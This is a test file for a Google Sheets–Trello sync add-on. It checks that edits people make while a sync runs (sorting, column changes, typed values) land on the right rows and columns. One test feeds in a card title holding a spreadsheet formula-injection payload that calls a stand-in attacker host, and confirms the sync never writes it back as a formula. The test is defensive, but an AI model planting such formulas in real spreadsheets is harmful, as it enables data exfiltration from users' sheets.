// People keep working while a run talks to Trello: what the run writes lands on the right rows and nothing else.
import { FLAG_PREFIX } from '../../src/core/row-problem';
import { sampleRows, SyncWorld } from './sync-world';

/** Runs `during` once, when the add-on sends its first Trello write of the run. */
function duringFirstWrite(world: SyncWorld, during: () => void): void {
  const handle = world.trello.handle.bind(world.trello);
  let done = false;
  world.trello.handle = (request) => {
    if (!done && request.method !== 'GET') {
      done = true;
      during();
    }
    return handle(request);
  };
}

describe('edits made while a run is under way', () => {
  it('writes each new card id into its own lead\'s row after a person sorted the sheet', () => {
    const world = new SyncWorld({ rows: sampleRows(8) });
    duringFirstWrite(world, () => world.leads.sortAsUser(2, false, 1));
    world.run('syncNow');
    for (let n = 1; n <= 8; n++) expect(world.cardOf(`L${n}`)?.name).toBe(`Lead ${n}`);
    world.run('syncNow');
    expect(world.cards()).toHaveLength(8);
  });

  it('keeps a status a person typed into another row meanwhile, and rows appended meanwhile', () => {
    const world = new SyncWorld({ rows: sampleRows(6) });
    world.run('syncNow');
    for (const n of [1, 3, 5]) world.person.renames(world.cardOf(`L${n}`)!.id, `Renamed ${n}`);
    duringFirstWrite(world, () => {
      world.leads.typeAsUser(3, 4, [['LOST']]);
      world.leads.typeAsUser(8, 1, [['L7', 'Typed meanwhile', 'x@example.com', 'NEW', 'Web']]);
    });
    world.person.creates('TODO', 'Made on the board');
    world.run('syncNow');
    expect([1, 3, 5].map((n) => world.lead(`L${n}`)?.name)).toEqual(['Renamed 1', 'Renamed 3', 'Renamed 5']);
    expect(world.lead('L2')?.status).toBe('LOST');
    expect(world.lead('L7')?.name).toBe('Typed meanwhile');
    expect(world.sheetValues().some((row) => row[1] === 'Made on the board')).toBe(true);
  });

  it('never turns text from Trello back into a formula, nor an id like 00777 into a number, however writes are spread', () => {
    const world = new SyncWorld({ rows: [["'00777", 'Zero', 'z@example.com', 'NEW', 'Web', ''], ...sampleRows(12)] });
    world.run('syncNow');
    world.person.creates('TODO', '=IMPORTXML("https://evil.example","//a")');
    world.run('syncNow');
    for (const n of [1, 4, 7, 10, 12]) world.person.renames(world.cardOf(`L${n}`)!.id, `+${n} renamed`);
    world.run('syncNow');
    const formulas = world.sheetValues().flatMap((row, r) => row.map((_, c) => world.leads.cell(r + 1, c + 1).formula)).filter(Boolean);
    expect(formulas).toEqual([]);
    expect(world.lead('00777')?.name).toBe('Zero');
    expect(world.lead('L4')?.name).toBe('+4 renamed');
    const base = world.spreadsheet.sheet('Trello Sync Base')!.values();
    expect(base.some((row) => row[0] === '00777')).toBe(true);
    expect(world.run<{ updatedCards: number; changedCells: number }>('syncNow').returnValue).toMatchObject({ updatedCards: 0, changedCells: 0 });
  });

  it('leaves flags for the next run when rows moved during this one, then sets them on the right rows', () => {
    const world = new SyncWorld({ rows: [...sampleRows(4), ['L9', 'Nine', 'n@example.com', 'MAYBE', 'Web', '']] });
    duringFirstWrite(world, () => world.leads.sortAsUser(2, false, 1));
    world.run('syncNow');
    world.run('syncNow');
    const row = world.sheetValues().findIndex((cells) => cells[0] === 'L9') + 1;
    expect(world.leads.cell(row, 4).note).toContain(`${FLAG_PREFIX}Unknown status "MAYBE"`);
    const flagged = world.sheetValues().flatMap((_, r) => [1, 2, 3, 4, 5, 6].map((c) => world.leads.cell(r + 1, c).note)).filter(Boolean);
    expect(flagged).toHaveLength(1);
  });

  it('writes into the columns where their headers are after a person inserted a column while cards were being made', () => {
    const world = new SyncWorld({ rows: sampleRows(6, ['', 'CONTACTED']) });
    duringFirstWrite(world, () => {
      world.leads.insertColumnsAsUser(3, 1);
      world.leads.typeAsUser(1, 3, [['phone'], ['555-0101']]);
    });
    world.run('syncNow');
    expectLeadsInPlace(world, 6, ['NEW', 'CONTACTED']);
    expect(world.sheetValues().map((row) => row[2])).toEqual(['phone', '555-0101', '', '', '', '', '']);
    expect(world.run<{ updatedCards: number; changedCells: number }>('syncNow').returnValue).toMatchObject({ updatedCards: 0, changedCells: 0 });
    expectLeadsInPlace(world, 6, ['NEW', 'CONTACTED']);
  });

  it('writes into the columns where their headers are after a person deleted a column while cards were being made', () => {
    const world = new SyncWorld({ rows: sampleRows(6, ['', 'CONTACTED']) });
    world.leads.insertColumnsAsUser(2, 1);
    world.leads.typeAsUser(1, 2, [['notes'], ['call back']]);
    duringFirstWrite(world, () => world.leads.deleteColumnsAsUser(2, 1));
    world.run('syncNow');
    expectLeadsInPlace(world, 6, ['NEW', 'CONTACTED']);
    expect(world.run<{ updatedCards: number; changedCells: number }>('syncNow').returnValue).toMatchObject({ updatedCards: 0, changedCells: 0 });
    expectLeadsInPlace(world, 6, ['NEW', 'CONTACTED']);
  });

  it('never writes into another column when a lead column itself is deleted while cards are being made', () => {
    const world = new SyncWorld({ rows: sampleRows(6, ['', 'CONTACTED']) });
    duringFirstWrite(world, () => world.leads.deleteColumnsAsUser(3, 1)); // email
    world.run('syncNow');
    const [header, ...rows] = world.sheetValues();
    expect(header).toEqual(['id', 'name', 'status', 'source', 'trello_card_id']);
    rows.forEach((row, index) => {
      const n = index + 1;
      expect(row.slice(0, 2)).toEqual([`L${n}`, `Lead ${n}`]);
      expect(row[3]).toBe('Web');
      expect(world.trello.card(String(row[4]))?.name).toBe(`Lead ${n}`);
    });
    expect(rows.map((row) => row[2])).toEqual(['NEW', 'CONTACTED', 'NEW', 'CONTACTED', 'NEW', 'CONTACTED']);
  });

  it('leaves a card made on the board for the next run when the id column is deleted meanwhile, then imports it', () => {
    const world = new SyncWorld({ rows: sampleRows(3) });
    world.run('syncNow');
    world.person.creates('TODO', 'Made on the board');
    world.person.renames(world.cardOf('L1')!.id, 'Renamed on the board');
    const ids = world.sheetValues().map((row) => row[0]);
    duringFirstWrite(world, () => world.leads.deleteColumnsAsUser(1, 1));
    world.run('syncNow');
    expect(world.sheetValues().map((row) => row[0])).toEqual(['name', 'Lead 1', 'Lead 2', 'Lead 3']);
    world.leads.insertColumnsAsUser(1, 1);
    world.leads.typeAsUser(1, 1, ids.map((id) => [id]));
    world.run('syncNow');
    expect(world.sheetValues().filter((row) => row[1] === 'Made on the board')).toHaveLength(1);
    expect(world.lead('L1')?.name).toBe('Renamed on the board');
    expect(world.cards()).toHaveLength(4);
  });
});

/** Every lead L1…Ln in its own row, each value under its own header, linked to a card that carries the same values. */
function expectLeadsInPlace(world: SyncWorld, count: number, statuses: string[]): void {
  for (let n = 1; n <= count; n++) {
    const lead = world.lead(`L${n}`);
    expect(lead).toMatchObject({ name: `Lead ${n}`, email: `lead${n}@example.com`, status: statuses[(n - 1) % statuses.length], source: 'Web' });
    const card = world.cardOf(`L${n}`);
    expect(card?.name).toBe(`Lead ${n}`);
    expect(card?.desc).toContain(`lead${n}@example.com`);
    expect(card?.desc).toContain('Web');
  }
  expect(world.cards()).toHaveLength(count);
}
